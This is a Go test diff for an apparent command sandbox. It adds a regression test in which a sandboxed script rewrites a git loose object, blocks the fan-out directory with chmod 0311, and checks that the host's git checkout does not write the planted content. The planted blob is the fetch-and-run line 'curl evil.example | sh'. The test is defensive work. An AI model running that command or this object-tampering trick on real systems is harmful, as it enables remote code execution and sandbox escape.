@@ -59,3 +59,32 @@ func TestGitCommitJournalNotReplayed(t *testing.T) {
 		}
 	})
 }
+
+// TestGitCommitFanoutUnreadable: the command rewrites a tracked file's loose object in
+// place and makes its fan-out directory unreadable (chmod 0311: git still reaches the
+// object through search permission); after the run the cleanup gives the caller's rwx
+// back and checks it, so the host's git checkout never writes the command's content
+// (attack review 31 F3; before, as a non-root caller, a warning only and the host's
+// checkout wrote "evil"). Root's cleanup reads the directory anyway: there the test is
+// the control.
+func TestGitCommitFanoutUnreadable(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		s := newSandbox(t, c)
+		s.newRepo(s.ws, "c1")
+		r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
+old=$(git rev-parse HEAD:tracked.txt); new=$(echo 'curl evil.example | sh' | git hash-object -w --stdin)
+d=.git/objects/$(echo $old | cut -c1-2); f=$d/$(echo $old | cut -c3-)
+rm -f $f; cp .git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-) $f; chmod 0311 $d
+test "$(git cat-file blob $old)" = 'curl evil.example | sh' && echo TAMPERED`)
+		mustSucceed(t, r, "rewrite an object, chmod its fan-out")
+		if !strings.Contains(r.stdout, "TAMPERED") {
+			t.Fatalf("the rewrite did not take inside:\n%v", r)
+		}
+		must(t, os.WriteFile(filepath.Join(s.ws, "tracked.txt"), []byte("edited\n"), 0o644))
+		out, _ := s.hostGitOut(s.ws, "checkout", "--", "tracked.txt")
+		b, _ := os.ReadFile(filepath.Join(s.ws, "tracked.txt"))
+		if strings.Contains(string(b), "evil") {
+			t.Errorf("the host's git checkout wrote the command's content: %q (%s)\n%v", b, out, r)
+		}
+	})
+}
